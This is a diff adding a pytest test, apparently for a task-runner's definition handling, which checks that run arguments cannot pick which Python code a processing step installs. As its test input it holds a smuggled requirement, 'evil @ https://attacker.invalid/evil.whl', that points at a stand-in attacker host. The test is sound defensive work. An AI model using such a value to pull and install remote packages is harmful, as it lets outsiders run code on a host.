@@ -435,3 +435,29 @@ destinations: [{{type: local, path: '{out}'}}]
     assert result.steps["process"] == "failed"
     assert f"processing.entrypoint `../../{escaped}` leaves" in log
     assert not (Path(tempfile.gettempdir()) / escaped).exists(), "the script was written outside its folder"
+
+
+@pytest.mark.parametrize(
+    ("processing", "key"),
+    [
+        ('{inline: "print([])", requirements: ["{{ params.lib }}"]}', "processing.requirements"),
+        ("{from: {type: local, path: '{{ params.lib }}'}}", "processing.from"),
+    ],
+)
+def test_run_arguments_cannot_choose_the_scripts_code(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], processing: str, key: str,
+) -> None:
+    result = run_definition(tmp_path, monkeypatch, f"""
+kind: task
+name: py_chosen
+schedule: none
+params: {{lib: {{default: tabulate}}}}
+source: {{type: python}}
+processing: {processing}
+""", "py_chosen", conf={"lib": "evil @ https://attacker.invalid/evil.whl"})
+    log = capfd.readouterr().out
+
+    assert result.state == "failed"
+    assert result.steps["process"] == "failed"
+    assert f"{key}: run argument `params.lib` cannot be used here: it would choose which code runs" in log
+    assert "attacker.invalid" not in log.split(key)[0], "nothing was fetched or installed before the refusal"
